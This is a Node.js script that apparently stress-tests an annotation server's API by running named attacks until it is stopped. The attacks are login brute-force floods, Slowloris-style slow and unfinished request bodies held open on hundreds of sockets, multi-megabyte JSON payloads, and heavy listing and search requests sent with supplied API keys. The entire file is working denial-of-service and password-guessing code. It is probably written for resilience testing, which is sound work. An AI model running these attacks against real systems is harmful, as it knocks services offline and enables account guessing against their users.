// Attacks a server until it is killed: node attack.js NAME URL DATASET, the key of one rater and the owner's on stdin.
import http from 'node:http';
import net from 'node:net';
import { text } from 'node:stream/consumers';

const [name, url, dataset] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const { rater, owner } = JSON.parse(await text(process.stdin));
const agent = new http.Agent({ keepAlive: true, maxSockets: 200 });
const statuses = {};

/** Sends a request and counts its status. A server that hangs up counts as `closed`. */
function send(method, path, headers, body) {
  return new Promise((done) => {
    const note = (status) => {
      statuses[status] = (statuses[status] ?? 0) + 1;
      done();
    };
    const length = body === undefined ? {} : { 'content-length': Buffer.byteLength(body) };
    const request = http.request({ hostname, port, method, path, agent, headers: { ...headers, ...length } });
    request.on('response', (response) => {
      response.resume();
      response.on('end', () => note(response.statusCode));
      response.on('error', () => note('closed'));
    });
    request.on('error', () => note('closed'));
    request.end(body);
  });
}

/** Opens `count` connections that begin a request and never end it, and opens a new one for each that is closed. */
function hold(count, head, start) {
  const open = () => {
    const socket = net.connect(Number(port), hostname);
    socket.on('error', () => {});
    socket.on('data', (data) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString())?.[1];
      if (status !== undefined) statuses[status] = (statuses[status] ?? 0) + 1;
    });
    socket.on('close', () => setTimeout(open, 200));
    socket.write(`${head}\r\n\r\n`);
    socket.write(start);
  };
  for (let index = 0; index < count; index += 1) open();
}

async function repeat(count, act) {
  await Promise.all(
    Array.from({ length: count }, async (_, index) => {
      for (let round = 0; ; round += 1) await act(index, round);
    }),
  );
}

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const json = { 'content-type': 'application/json' };
const bulk = '/api/v1/me/responses/bulk';
const large = Buffer.alloc(60e6, 32);

const attacks = {
  /** One name. */
  'wrong logins': () =>
    repeat(120, (i, n) => send('POST', '/api/v1/token', form, `username=someone&password=${i}-${n}`)),
  'wrong logins of many names': () =>
    repeat(120, (i, n) => send('POST', '/api/v1/token', form, `username=name-${i}-${n}&password=guess`)),
  'slow bodies': () =>
    hold(
      600,
      `POST /api/v1/token HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\nContent-Type: ${form['content-type']}`,
      'u',
    ),
  'unfinished bodies': () =>
    hold(12, `POST ${bulk} HTTP/1.1\r\nHost: x\r\nContent-Length: 67000000\r\nContent-Type: application/json`, large),
  'unfinished bodies of a rater': () =>
    hold(
      200,
      `POST ${bulk} HTTP/1.1\r\nHost: x\r\nX-Argilla-Api-Key: ${rater}\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json`,
      `f0000\r\n${' '.repeat(0xf0000)}\r\n`,
    ),
  'a rater with 30 MB of {}': () => {
    const body = `{"items":[${'{},'.repeat(10e6)}{}]}`;
    return repeat(1, () => send('POST', bulk, { ...json, 'x-argilla-api-key': rater }, body));
  },
  'a rater with 1 MB of {}': () => {
    const body = `{"items":[${'{},'.repeat(340e3)}{}]}`;
    return repeat(1, () => send('POST', bulk, { ...json, 'x-argilla-api-key': rater }, body));
  },
  'an owner who lists everything': () =>
    repeat(1, (_, n) => {
      const path = `/api/v1/datasets/${dataset}/records?limit=1000&offset=${(n * 1000) % 300_000}&include=responses`;
      return send('GET', path, { 'x-argilla-api-key': owner });
    }),
  'a rater who searches': () =>
    repeat(2, () => {
      const body = {
        query: { text: { q: 'patient teacher' } },
        sort: [{ scope: { entity: 'record', property: 'updated_at' }, order: 'desc' }],
      };
      const path = `/api/v1/me/datasets/${dataset}/records/search?limit=1000`;
      return send('POST', path, { ...json, 'x-argilla-api-key': rater }, JSON.stringify(body));
    }),
};

process.on('SIGTERM', () => {
  process.stdout.write(JSON.stringify(statuses));
  process.exit(0);
});
await attacks[name]();
